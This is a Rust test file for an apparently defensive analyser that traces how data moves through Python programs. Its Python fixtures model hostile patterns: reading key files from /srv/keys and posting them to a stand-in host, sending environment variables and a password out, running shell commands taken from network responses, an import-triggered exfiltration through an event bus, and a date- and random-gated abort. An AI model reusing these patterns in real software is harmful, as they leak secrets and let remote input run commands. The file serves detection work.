//! Claims about what passes through the structure of a program: makers, registries, contexts, containers of its own.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::{analysis_of, event, events_of};
use venin_model::{Event, OriginKind, Role, Trigger};

/// The text of an argument of an event.
fn text_of(event: &Event, role: Role) -> String {
    let argument = event.arguments.iter().find(|argument| argument.role == role);
    argument
        .and_then(|argument| argument.value.as_ref())
        .map(|value| value.text.to_string())
        .unwrap_or_default()
}

/// The last event of a name.
fn last(source: &str, name: &str) -> Event {
    let found = events_of(source).into_iter().rfind(|event| &*event.name == name);
    found.unwrap_or_else(|| panic!("no `{name}`"))
}

#[test]
fn what_a_short_method_gives_is_that_of_its_object() {
    let source = "\
import requests
class Mail:
    def __init__(self, to):
        self.to = to
    def body(self, settings):
        return {'to': self.to}
class Settings:
    def __init__(self, a):
        self.a = a
Mail('first').body(Settings(1))
requests.post('https://a.invalid', json=Mail('second').body(Settings(2)))
";
    assert_eq!(text_of(&event(source, "requests.post"), Role::Data), "{to: second}");
}

#[test]
fn each_closure_of_a_maker_holds_what_it_was_made_with() {
    let source = "\
import os
def bind(layer, following):
    def step(context):
        return layer(context, following)
    return step
def first(context, following):
    return following(context)
def second(context, following):
    os.system(context)
call = lambda context: context
for layer in [second, first]:
    call = bind(layer, call)
call('echo a')
";
    assert_eq!(text_of(&event(source, "os.system"), Role::Command), "echo a");
}

#[test]
fn listings_keep_their_paths_through_what_orders_counts_and_filters_them() {
    for wrapped in [
        "sorted(FOUND)",
        "list(FOUND)[:3]",
        "reversed(list(FOUND))",
        "set(FOUND)",
        "filter(lambda path: path.is_file(), FOUND)",
        "(path for _, path in enumerate(FOUND))",
        "itertools.chain(FOUND, [])",
        "itertools.chain([], [], [], [], [], [], [], [], [], FOUND)",
        "map(lambda path: path, FOUND)",
        "[path for path in FOUND if path.is_file()]",
        "(path for path, _ in zip(FOUND, range(3)))",
    ] {
        let source = format!(
            "import itertools\nfrom pathlib import Path\nFOUND = Path('/srv/keys').glob('*')\n\
             for path in {wrapped}:\n    path.read_text()\n"
        );
        let read = event(&source, "pathlib.Path().read_text");
        assert_eq!(text_of(&read, Role::Path), "/srv/keys/*", "{wrapped}");
    }
}

#[test]
fn what_is_set_in_a_context_is_got_in_another_function() {
    let source = "\
import contextvars, os
current = contextvars.ContextVar('current', default=None)
def begin():
    current.set('echo a')
def end():
    os.system(current.get())
begin()
end()
";
    assert_eq!(text_of(&event(source, "os.system"), Role::Command), "echo a");
}

#[test]
fn fields_that_an_answer_is_spread_into_come_over_the_network() {
    let source = "\
from dataclasses import dataclass, field
import os, requests
@dataclass
class Policy:
    run: str = ''
def make(command='echo'):
    return command
os.system(Policy(**requests.get('https://a.invalid').json()).run)
os.popen(make(**requests.get('https://a.invalid').json()))
";
    for name in ["os.system", "os.popen"] {
        assert!(event(source, name).input.kinds.contains(OriginKind::Network), "{name}");
    }
}

#[test]
fn an_object_that_is_a_dictionary_holds_what_is_put_into_it() {
    let source = "\
import os, requests
class Context(dict):
    def __getattr__(self, name):
        return self[name]
context = Context(package='a')
context['variables'] = dict(os.environ)
context.update(more=1)
requests.post('https://a.invalid', json=context)
os.system(context.get('package'))
";
    assert!(event(source, "requests.post").input.kinds.contains(OriginKind::Env));
    assert_eq!(text_of(&event(source, "os.system"), Role::Command), "a");
}

#[test]
fn urls_of_parts_are_texts() {
    for url in [
        "urllib.parse.urlunsplit(('https', 'a.invalid', '/b', '', ''))",
        "urllib.parse.urlunparse(('https', 'a.invalid', 'b', '', '', ''))",
        "yarl.URL.build(scheme='https', host='a.invalid') / 'b'",
        "yarl.URL('https://a.invalid') / 'b'",
        "furl.furl(scheme='https', host='a.invalid', path='/b')",
        "httpx.URL('https://a.invalid/b')",
    ] {
        let source = format!("import furl, httpx, requests, urllib.parse, yarl\nrequests.get({url})\n");
        assert_eq!(text_of(&event(&source, "requests.get"), Role::Url), "https://a.invalid/b", "{url}");
    }
    let source = "import requests, sys\nfrom urllib.parse import urljoin\n\
                  requests.get(urljoin('https://a.invalid/v1/', f'user/{sys.argv[1]}'))\n";
    let url = text_of(&event(source, "requests.get"), Role::Url);
    assert!(url.starts_with("https://a.invalid/v1/user/⟨"), "{url}");
}

#[test]
fn a_default_that_is_tested_first_does_not_hide_what_a_caller_passes() {
    let source = "\
import requests
def on_sign(signer=None, **more):
    held = getattr(signer, '_held', None)
    if held is None:
        return
    requests.post('https://a.invalid', data=held.password)
";
    assert!(last(source, "requests.post").input.kinds.contains(OriginKind::Secret));
}

#[test]
fn conditions_behind_long_names_are_kept() {
    let source = "\
import os, random
from datetime import date
if date.today().toordinal() > 740000 and random.randint(1, 9) > 7:
    os.abort()
";
    let subjects: Vec<String> =
        event(source, "os.abort").conditions.iter().map(|condition| condition.subject.to_string()).collect();
    assert!(subjects.iter().any(|subject| subject == "random.randint()"), "{subjects:?}");
}

#[test]
fn an_event_bus_hands_on_what_its_subscribers_find() {
    let files = [
        (
            "pkg/__init__.py",
            "from . import found\nfrom .bus import bus\nbus.emit('ready', None)\n",
            Trigger::Import,
        ),
        (
            "pkg/bus.py",
            "from collections import defaultdict\nclass Bus:\n    def __init__(self):\n        self.held = defaultdict(list)\n    \
             def on(self, kind):\n        def register(handler):\n            self.held[kind].append(handler)\n            \
             return handler\n        return register\n    def emit(self, kind, what):\n        for handler in self.held[kind]:\n            \
             handler(what)\nbus = Bus()\n",
            Trigger::Run,
        ),
        (
            "pkg/found.py",
            "import requests\nfrom pathlib import Path\nfrom .bus import bus\n@bus.on('ready')\ndef look(_):\n    \
             for path in sorted(Path('/srv/keys').glob('*')):\n        bus.emit('found', path.read_text())\n@bus.on('found')\n\
             def tell(text):\n    requests.post('https://a.invalid', data=text)\n",
            Trigger::Run,
        ),
    ];
    let events = analysis_of(&files).events;
    let sent = events.iter().find(|event| &*event.name == "requests.post");
    let found = sent.map(|sent| (sent.trigger, sent.input.kinds.contains(OriginKind::File)));
    assert_eq!(found, Some((Trigger::Import, true)));
}
